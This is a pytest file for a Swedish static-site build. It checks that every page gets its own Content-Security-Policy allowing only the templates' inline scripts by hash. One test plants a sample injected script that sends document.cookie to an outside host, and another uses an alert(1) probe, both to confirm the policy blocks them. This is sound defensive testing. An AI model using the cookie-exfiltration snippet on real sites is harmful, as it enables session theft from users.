"""The Content-Security-Policy the build writes: on every page, only the page's own inline scripts by hash,
and the header line in the README is the one the build gives (stodguiden/site/csp.py)."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from jinja2.exceptions import TemplateError

from conftest import FIXTURE_SITES, ROOT, make_project, run_build
from stodguiden.site import csp, images, materialfixes

if TYPE_CHECKING:
    from pathlib import Path

    from conftest import Build

META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def test_every_page_has_its_own_policy_and_the_readme_has_the_header(sample_build: Build) -> None:
    hashes: set[str] = set()
    # The form editor at redigera/ has its own narrower policy for Decap CMS (tests/test_formular.py).
    pages = sorted(p for p in sample_build.site.rglob("*.html") if p.parent.name != "redigera")
    for path in pages:
        html = path.read_text(encoding="utf-8")
        found = META.findall(html)
        assert len(found) == 1, f"{path}: {len(found)} policies"
        page_hashes = csp.inline_script_hashes(html)
        assert found[0] == csp.policy(page_hashes), path
        assert "unsafe-inline" not in found[0]
        assert "unsafe-eval" not in found[0]
        assert html.index("Content-Security-Policy") < html.index("<script"), f"{path}: a script before the policy"
        hashes.update(page_hashes)
    assert 2 <= len(hashes) <= 6, "the inline scripts should be few and the same on every page of a kind"
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    assert f"Content-Security-Policy: {csp.policy(hashes, header=True)}\n" in readme, (
        "README.md (Publicera) shows another header line than the build: copy it from the build's log"
    )


def test_only_scripts_a_browser_runs_are_hashed() -> None:
    html = (
        '<script src="a.js"></script><script type="application/ld+json">{}</script>'
        '<script id="__config" type="application/json">{}</script><script data-x="1">run()</script>'
    )
    assert csp.inline_script_hashes(html) == ["'sha256-AvyuiL0SD1mVY3NNxR+V2uo+lhk6RMFrytWmRt6CrJQ='"]


def test_a_changed_material_template_fails_with_a_clear_message() -> None:
    with pytest.raises(TemplateError, match=r"Materials mall base\.html har ändrats"):
        materialfixes.apply("<body></body>", "base.html")


def test_image_sizes_come_from_the_file(tmp_path: Path) -> None:
    (tmp_path / "a.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 48 24"></svg>')
    (tmp_path / "b.svg").write_text('<svg width="120px" height="40" viewBox="0 0 1 1"></svg>')
    (tmp_path / "c.txt").write_text("inte en bild")
    assert images.size(tmp_path / "a.svg") == (48, 24)
    assert images.size(tmp_path / "b.svg") == (120, 40)
    assert images.size(tmp_path / "c.txt") is None
    assert images.size(tmp_path / "saknas.png") is None


def test_a_script_in_a_pages_content_runs_only_if_our_templates_wrote_it() -> None:
    ours = "<script>document.documentElement.classList.add('sg-x')</script>"
    injected = "<script>fetch('https://example.org/?'+document.cookie)</script>"
    frame = f'<meta content="{csp.PLACEHOLDER}"><script>frame()</script><main>{{}}</main>'
    content = f"<p>Text</p>{ours}{injected}"
    html, hashes = csp.with_policy(frame.format(content), content, frozenset(csp.inline_script_hashes(ours)))
    assert hashes == csp.inline_script_hashes("<script>frame()</script>" + ours)
    assert csp.inline_script_hashes(injected)[0] not in html
    assert csp.inline_script_hashes(ours)[0] in html


def test_the_trusted_scripts_are_the_finders_and_searchs_first_paint() -> None:
    from stodguiden.site.pages import TEMPLATES

    trusted = csp.template_script_hashes(TEMPLATES)
    texts = [(TEMPLATES / name).read_text(encoding="utf-8") for name in ("finder.html", "search.html")]
    assert trusted == frozenset(hash for text in texts for hash in csp.inline_script_hashes(text))
    assert len(trusted) == 2


def test_a_script_in_a_markdown_page_in_docs_is_not_allowed(tmp_path: Path) -> None:
    """Raw HTML in docs/ can hold a script; the build never lets it run (a web team puts scripts in files)."""
    project = make_project(tmp_path / "p", FIXTURE_SITES / "minimal" / "data")
    (project / "docs" / "om-foraldraskapsstod.md").write_text(
        "# Om föräldraskapsstöd\n\n<script>alert(1)</script>\n", encoding="utf-8"
    )
    build = run_build(project, "--strict")
    assert build.ok, build.result.stderr
    html = build.html("om-foraldraskapsstod/")
    assert "<script>alert(1)</script>" in html
    (policy,) = META.findall(html)
    assert csp.inline_script_hashes("<script>alert(1)</script>")[0] not in policy
    assert "'sha256-" in policy  # the frame's own scripts are still allowed
